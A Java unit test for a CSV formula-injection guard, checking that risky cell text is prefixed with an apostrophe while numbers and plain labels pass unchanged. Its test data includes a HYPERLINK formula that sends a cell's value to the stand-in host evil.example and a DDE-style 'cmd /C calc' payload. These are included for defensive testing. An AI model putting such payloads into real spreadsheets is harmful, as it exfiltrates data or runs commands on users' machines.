package id.saring.report;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class FormulaGuardTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            =HYPERLINK("http://evil.example/?d="&A1;"klik")|'=HYPERLINK("http://evil.example/?d="&A1;"klik")
            =1+1                                          |'=1+1
            @SUM(A1:A9)                                   |'@SUM(A1:A9)
            +62 811 cmd                                   |'+62 811 cmd
            - Belanja Pegawai                             |'- Belanja Pegawai
            -2+3+cmd' /C calc'!A0                         |'-2+3+cmd' /C calc'!A0
            "\t=1+1"                                      |"'\t=1+1"
            """)
    void textThatCouldRunAsAFormulaGetsAnApostropheInCsv(String text, String guarded) {
        String input = text.replace("\\t", "\t");
        assertThat(FormulaGuard.isFormulaLike(input)).isTrue();
        assertThat(FormulaGuard.csv(input)).isEqualTo(guarded.replace("\\t", "\t"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', textBlock = """
            -5
            -863048605489
            -1.234,56
            +3,5 %
            - Rp 3.000
            -
            --
            Persentase Penduduk Miskin
            100 %
            ''
            """)
    void numbersDashesAndPlainTextAreLeftAlone(String text) {
        String input = text == null ? "" : text;
        assertThat(FormulaGuard.isFormulaLike(input)).isFalse();
        assertThat(FormulaGuard.csv(input)).isEqualTo(input);
    }
}
